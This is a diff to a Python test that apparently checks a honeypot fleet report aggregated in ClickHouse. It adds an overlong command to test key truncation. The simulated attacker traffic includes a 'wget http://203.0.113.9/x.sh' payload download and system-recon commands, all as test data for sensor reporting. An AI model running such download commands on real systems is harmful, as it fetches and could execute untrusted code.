@@ -132,7 +132,8 @@ def fleet_report_clickhouse_sums_sensors(ctx):
 
     tokyo, paris = sensor(ctx, "tokyo"), sensor(ctx, "paris")
     traffic(tokyo, 4, ["uname -a", "cat /proc/cpuinfo"], corpus[:12], 3)
-    traffic(paris, 2, ["uname -a", "wget http://203.0.113.9/x.sh"], corpus[6:20], 5)
+    # a command longer than a roll-up key (1024 bytes): every store's report cuts it there
+    traffic(paris, 2, ["uname -a", "wget http://203.0.113.9/x.sh", "echo " + "7" * 1500], corpus[6:20], 5)
     evs = {d.label: stop_and_read(d) for d in (tokyo, paris)}
     for name, e in evs.items():
         ch.load_events(e, batch=name)
